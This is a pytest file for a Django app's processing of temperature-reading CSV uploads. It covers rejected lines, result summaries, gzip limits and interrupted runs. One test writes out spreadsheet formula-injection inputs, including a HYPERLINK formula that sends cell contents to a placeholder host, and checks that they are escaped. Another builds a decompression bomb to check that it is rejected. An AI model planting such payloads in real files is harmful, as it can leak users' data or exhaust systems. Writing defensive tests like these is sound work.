"""Processing of temperature files: readings, rejects, results, and runs that are stopped."""

from __future__ import annotations

import csv
import gzip
import io
import random
from collections.abc import Callable
from functools import partial
from typing import Any

import pytest

from tests.temperatures.conftest import Receive
from tests.temperatures.lines.test_parsing import BAD_LINES, GOOD_LINES, NOON
from tests.temperatures.readings.test_totals import total_one_by_one
from tests.temperatures.uploads import CELSIUS
from timba.files.kinds import HEAD_BYTES
from timba.files.leases import Run
from timba.files.models import Derivative, File
from timba.files.processing import process_file
from timba.files.processors.base import Superseded
from timba.files.storage import store
from timba.temperatures import ingestion, services
from timba.temperatures.lines.parsing import Reason
from timba.temperatures.models import CityTotals
from timba.temperatures.processor import PROCESSOR
from timba.temperatures.readings import stored_readings
from timba.temperatures.readings.writing import ReadingsWriter
from timba.temperatures.statistics.bounds import to_datetime

pytestmark = pytest.mark.django_db

FILE = (
    "city_id,temperature,timestamp\r\n"
    "7,21.50,2025-06-01T12:00:00Z\r\n"
    "\r\n"
    "7,abc,2025-06-01T13:00:00Z\r\n"
    "8, -3.255 ,2025-06-01 15:00+02:00\r\n"
    "nonsense, with “quotes”\r\n"
    "7,19,2025-06-02T00:00:00.5"
)


FORMAT = "Each line must read city_id,temperature,timestamp."


def rejects_of(file: File) -> list[list[str]]:
    derivative = file.derivatives.get(role=Derivative.Role.REJECTS, run=file.run)
    stream = store().open_bytes(derivative.storage_key)
    with io.TextIOWrapper(stream, encoding="utf-8", newline="") as text:
        return list(csv.reader(text))


def objects() -> set[str]:
    return {
        str(path.relative_to(store().location))
        for path in store().location.rglob("*")
        if path.is_file()
    }


def test_a_result_counts_every_line(settle: Receive) -> None:
    file = settle(FILE)
    assert (file.status, file.error) == (File.Status.SUCCESS, "")
    result = dict(file.result)
    assert list(result) == [
        "id",
        "name",
        "execution_time",
        "random_number",
        "rows",
        "accepted",
        "rejected",
        "cities",
        "first_at",
        "last_at",
        "min_temp",
        "max_temp",
        "rejects_kept",
        "read_as",
        "questions",
        "warnings",
        "first_errors",
    ]
    del result["execution_time"]
    assert result == {
        "id": str(file.pk),
        "name": "readings.csv",
        "random_number": file.random_number,
        "rows": 5,  # neither the header nor the blank line is a row
        "accepted": 3,
        "rejected": 2,
        "cities": 2,
        "first_at": "2025-06-01T12:00:00Z",
        "last_at": "2025-06-02T00:00:00.500000Z",
        "min_temp": -3.26,
        "max_temp": 21.5,
        "rejects_kept": 2,
        "read_as": None,
        "questions": [],
        "warnings": [],
        "first_errors": [
            {
                "line": 4,
                "reason": "The temperature is not a plain number such as -3.25.",
                "text": "7,abc,2025-06-01T13:00:00Z",
            },
            {
                "line": 6,
                "reason": "The line does not have exactly three fields: "
                "city_id,temperature,timestamp.",
                "text": "nonsense, with “quotes”",
            },
        ],
    }
    assert rejects_of(file) == [
        ["line", "reason", "text"],
        ["4", str(Reason.TEMPERATURE), "7,abc,2025-06-01T13:00:00Z"],
        ["6", str(Reason.FIELDS), "nonsense, with “quotes”"],
    ]


@pytest.mark.only_on("sqlite")
def test_a_file_without_bad_lines_has_rejects_without_rows(settle: Receive) -> None:
    file = settle("7,21.50,2025-06-01T12:00Z\n")
    assert file.result["rejected"] == 0
    assert file.result["first_errors"] == []
    assert rejects_of(file) == [["line", "reason", "text"]]


@pytest.mark.only_on("sqlite")
def test_compressed_files_have_the_same_result(settle: Receive) -> None:
    plain = settle(FILE).result
    packed = settle(gzip.compress(FILE.encode()), name="readings.csv.gz").result
    changing = {"id": 0, "name": 0, "execution_time": 0, "random_number": 0, "warnings": 0}
    assert {**packed, **changing} == {**plain, **changing}


@pytest.mark.only_on("sqlite")
def test_only_twenty_rejects_are_in_the_result_and_all_are_stored(settle: Receive) -> None:
    file = settle("".join(f"bad {n}\n" for n in range(1, 501)) + "7,1,2025-06-01T12:00")
    assert [error["line"] for error in file.result["first_errors"]] == list(range(1, 21))
    assert (file.result["rows"], file.result["rejected"]) == (501, 500)
    assert [(row[0], row[2]) for row in rejects_of(file)[1:]] == [
        (str(n), f"bad {n}") for n in range(1, 501)
    ]


@pytest.mark.only_on("sqlite")
def test_rejects_beyond_the_limit_are_counted_and_the_result_has_the_stored_number(
    settle: Receive, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        ingestion, "RejectsWriter", partial(ingestion.RejectsWriter, max_rejects=30)
    )
    file = settle("".join(f"bad {n}\n" for n in range(1, 501)) + "7,1,2025-06-01T12:00")
    assert (file.result["rejected"], file.result["rejects_kept"]) == (500, 30)
    assert [row[2] for row in rejects_of(file)[1:]] == [f"bad {n}" for n in range(1, 31)]


@pytest.mark.only_on("sqlite")
def test_a_decompression_bomb_is_a_failure_that_names_the_file(
    settle: Receive,
) -> None:
    file = settle(gzip.compress(b"x\n" * 5_000_000), name="yard.gz")
    assert (file.status, file.error) == (
        File.Status.FAILURE,
        "“yard.gz” unpacks to more than 450 times its size, as no readings do. Upload it unpacked.",
    )
    assert rejects_of(file) == [["line", "reason", "text"]]


def test_totals_of_many_cities_are_staged_in_small_transactions_that_yield_to_writers(
    settle: Receive, monkeypatch: pytest.MonkeyPatch
) -> None:
    pauses: list[float] = []
    monkeypatch.setattr(ingestion, "STAGE_BATCH_SIZE", 10)
    monkeypatch.setattr(services, "yield_to_writers", pauses.append)
    file = settle("".join(f"{n},{n},2025-06-01T12:00\n" for n in range(1, 26)))
    assert (len(pauses), min(pauses) > 0) == (3, True)
    assert CityTotals.unscoped.filter(file=file).count() == 25
    PROCESSOR.discard_run(file.pk, file.run)
    assert len(pauses) == 4


@pytest.mark.only_on("sqlite")
def test_an_archive_unpacks_to_no_more_than_a_file_may_have(settle: Receive, settings: Any) -> None:
    settings.TIMBA_MAX_UPLOAD_BYTES = 1024
    file = settle(gzip.compress(b"7,1,2025-06-01T12:00\n" * 100), name="yard.gz")
    assert (
        file.error
        == "“yard.gz” unpacks to more than the 1,024 bytes that a file may have. Split it."
    )


@pytest.mark.only_on("sqlite")
def test_no_more_is_unpacked_in_search_of_a_date_that_decides(
    settle: Receive, settings: Any
) -> None:
    settings.TIMBA_MAX_UPLOAD_BYTES = 100_000
    lines = "".join(f"7,{n % 40}.{n},03.04.2026 05:06\n" for n in range(5000))
    file = settle(gzip.compress(lines.encode()), name="yard.gz")
    assert (
        file.error
        == "“yard.gz” unpacks to more than the 100,000 bytes that a file may have. Split it."
    )


@pytest.mark.only_on("sqlite")
def test_texts_of_rejects_are_unchanged(settle: Receive) -> None:
    bad = ['a "quoted", comma', "a\rb", "ends in blank ", "ünïcödé 🌲", "x" * 1000 + "cut"]
    raw = "".join(f"{text}\n" for text in bad).encode() + b"n\0ul \xff\n7,1,2025-06-01T12:00"
    shown = [*(text[:1000] for text in bad), "n\ufffdul \ufffd"]
    file = settle(raw)
    assert [row[2] for row in rejects_of(file)[1:]] == shown
    assert [error["text"] for error in file.result["first_errors"]] == shown


@pytest.mark.only_on("sqlite")
def test_no_reject_runs_as_a_formula(settle: Receive) -> None:
    bad = ['=HYPERLINK("http://192.0.2.1/?"&A1,"click"),1.0,2026-03-01', "41;=1+1;x", " @SUM(1)"]
    file = settle("".join(f"{text}\n" for text in bad) + "7,1,2025-06-01T12:00\n")
    assert [row[2] for row in rejects_of(file)[1:]] == [
        f"'{bad[0]}",
        "41;'=1+1;x",
        f"'{bad[2]}",
    ]
    assert [error["text"] for error in file.result["first_errors"]] == bad


@pytest.mark.only_on("sqlite")
@pytest.mark.parametrize(
    ("data", "error"),
    [
        (
            "x,y\nz",
            f"No line of the file is a reading. Line 1: {Reason.FIELDS} {FORMAT}",
        ),
        (
            "city_id,temperature,timestamp\n\n \r\n",
            f"The file holds no reading, only a header or blank lines. {FORMAT}",
        ),
    ],
)
def test_a_file_without_a_reading_fails_with_a_sentence(
    settle: Receive, data: str, error: str
) -> None:
    file = settle(data)
    assert (file.status, file.error) == (File.Status.FAILURE, error)
    rejected = data.count("z") * 2
    assert (file.result["accepted"], file.result["rejected"]) == (0, rejected)
    assert file.result["first_at"] is None
    assert file.result["min_temp"] is None
    assert len(rejects_of(file)) == 1 + rejected
    assert not CityTotals.unscoped.filter(file=file).exists()


@pytest.mark.only_on("sqlite")
@pytest.mark.parametrize(
    ("spoil", "error"),
    [
        (
            lambda packed: packed[:-20],
            "The gzip archive ends before its end: it was cut off. Pack it again and upload that.",
        ),
        (
            lambda packed: packed[:-8] + b"\0" * 8,
            "The gzip archive is damaged. Pack it again and upload that.",
        ),
    ],
)
def test_no_reading_in_a_damaged_archive_counts(
    settle: Receive, spoil: Callable[[bytes], bytes], error: str
) -> None:
    lines = b"bad\n" + b"".join(b"7,%d,2025-06-01T12:00\n" % (n % 90) for n in range(30_000))
    before = objects()
    file = settle(spoil(gzip.compress(lines)), name="readings.gz")
    assert (file.status, file.error, file.result) == (File.Status.FAILURE, error, None)
    assert not CityTotals.unscoped.filter(file=file).exists()
    assert rejects_of(file)[1:] == [["1", str(Reason.FIELDS), "bad"]]
    assert len(objects() - before) == 2  # the original and the rejects


def test_every_line_is_a_reading_or_a_reject(
    settle: Receive, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ingestion, "STAGE_BATCH_SIZE", 7)
    readings = [(city % 20 + 1, NOON + city * 1_000_000, city * 97 % 9999) for city in range(200)]
    good = [
        b"%d,%d.%02d,%s" % (city, *divmod(degrees, 100), to_datetime(at).isoformat().encode())
        for city, at, degrees in readings
    ]
    bad = [line for lines in BAD_LINES.values() for line in lines if b"\n" not in line]
    bad = [line for line in bad if len(line) < 100 and not line.endswith(b"\r")]
    lines = [*good, *[line for line, _ in GOOD_LINES], *bad]
    numbered = list(enumerate(random.Random(11).sample(lines, len(lines)), start=1))
    readings += [(city, at, degrees) for _, (city, degrees, at) in GOOD_LINES]
    expected = total_one_by_one(readings)
    file = settle(b"\r\n".join(line for _, line in numbered))
    rows = {
        row.city_id: (row.count, row.sum_hundredths, row.min_hundredths, row.max_hundredths)
        for row in CityTotals.unscoped.filter(file=file)
    }
    assert rows == {
        city: (t.count, t.sum_hundredths, t.min_hundredths, t.max_hundredths)
        for city, t in expected.items()
    }
    assert [int(row[0]) for row in rejects_of(file)[1:]] == [
        number for number, line in numbered if line in bad
    ]
    counts = {name: file.result[name] for name in ("accepted", "rejected", "cities")}
    assert counts == {"accepted": len(readings), "rejected": len(bad), "cities": len(expected)}


def test_too_many_cities_for_memory_are_totalled_from_the_object(
    settle: Receive, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Small(ReadingsWriter):
        def __init__(self, sink: Any, **ids: Any) -> None:
            super().__init__(sink, **ids, batch_size=100, row_group_size=10, max_partials=100)

    monkeypatch.setattr(ingestion, "ReadingsWriter", Small)
    monkeypatch.setattr(stored_readings, "MERGED_ROW_GROUPS", 4)
    text = "".join(f"{n * 7 % 400 + 1},{n},2025-06-01T12:00\n" for n in range(800))
    file = settle(CELSIUS + text)
    assert file.result["cities"] == 400
    assert (file.result["min_temp"], file.result["max_temp"]) == (0.0, 799.0)
    rows = CityTotals.unscoped.filter(file=file)
    assert sorted(rows.values_list("city_id", "count")) == [(n, 2) for n in range(1, 401)]


class Stop:
    """A stop event of the worker that is set after a number of checks."""

    def __init__(self, after: int) -> None:
        self.left = after

    def is_set(self) -> bool:
        self.left -= 1
        return self.left < 0


@pytest.mark.parametrize("after", range(6))
def test_a_stopped_run_counts_nothing_and_the_next_one_counts_once(
    receive: Receive, after: int
) -> None:
    file = receive(FILE)
    process_file(file.pk, stopping=Stop(after))
    file.refresh_from_db()
    stopped = file.status == File.Status.PENDING
    assert stopped == (after < 5)
    assert CityTotals.unscoped.current().filter(file=file).exists() != stopped
    assert process_file(file.pk) == stopped
    assert CityTotals.unscoped.current().filter(file=file).count() == 2
    assert sum(CityTotals.unscoped.current().values_list("count", flat=True)) == 3


def test_a_superseded_run_stops_at_its_next_step(receive: Receive) -> None:
    file = receive(FILE)
    File.unscoped.filter(pk=file.pk).update(fencing_token=1)
    run = Run(file=File.unscoped.get(pk=file.pk))
    File.unscoped.filter(pk=file.pk).update(fencing_token=2)
    with pytest.raises(Superseded):
        PROCESSOR.read(run)
    assert not CityTotals.unscoped.filter(file=file).exists()


def test_totals_of_an_abandoned_run_are_deleted_in_small_transactions(
    settle: Receive, monkeypatch: pytest.MonkeyPatch, django_assert_num_queries: Any
) -> None:
    file = settle("".join(f"{n},{n},2025-06-01T12:00\n" for n in range(1, 12)))
    rows = CityTotals.unscoped.filter(file=file)
    rows.filter(city_id__gt=9).update(run=99)
    monkeypatch.setattr("timba.temperatures.services.DELETE_BATCH_SIZE", 4)
    with django_assert_num_queries(6):  # three SELECTs, three DELETEs: of 4, 4 and 1 rows
        PROCESSOR.discard_run(file.pk, file.run)
    assert sorted(rows.values_list("city_id", "run")) == [(10, 99), (11, 99)]


@pytest.mark.only_on("sqlite")
def test_progress_is_reported_while_bytes_are_read_without_a_line_end(
    receive: Receive, monkeypatch: pytest.MonkeyPatch
) -> None:
    fractions: list[float] = []
    monkeypatch.setattr(Run, "progress", lambda run, fraction, rows: fractions.append(fraction))
    file = receive(b"7,1,2025-06-01T12:00\n" + b"x" * 24_000_000)
    process_file(file.pk)
    assert len(fractions) > 11
    assert fractions == sorted(fractions)
    assert fractions[0] < 0.1 < 0.94 < fractions[-1] <= 1


@pytest.mark.only_on("sqlite")
def test_progress_is_reported_while_a_few_compressed_bytes_yield_many_lines(
    receive: Receive, monkeypatch: pytest.MonkeyPatch
) -> None:
    fractions: list[float] = []
    monkeypatch.setattr(Run, "progress", lambda run, fraction, rows: fractions.append(fraction))
    packed = gzip.compress(b"7,4.00,2024-01-01T00:00:00Z\n" * 40_000)
    assert len(packed) < 256 * 1024
    file = receive(packed, name="readings.csv.gz")
    process_file(file.pk)
    assert len(fractions) > 3
    assert fractions == sorted(fractions)


@pytest.mark.only_on("sqlite")
@pytest.mark.parametrize("packed", [False, True])
def test_a_file_is_recognized_by_its_head(packed: bool) -> None:
    def head(data: bytes) -> bytes:
        return (gzip.compress(data, 1) if packed else data)[:HEAD_BYTES]

    noise = random.Random(5).randbytes(300_000).hex().encode()
    assert PROCESSOR.sniff(head(FILE.encode()))
    assert PROCESSOR.sniff(head(FILE.encode() + b"\n" + noise))
    assert not PROCESSOR.sniff(head(b"a text\nof lines\n"))
    assert not PROCESSOR.sniff(head(b"x\n" * 120 + FILE.encode()))
    assert not PROCESSOR.sniff(head(noise))
    assert not PROCESSOR.sniff(head(b""))


@pytest.mark.only_on("sqlite")
def test_a_damaged_archive_is_not_recognized() -> None:
    assert not PROCESSOR.sniff(b"\x1f\x8bno archive at all")
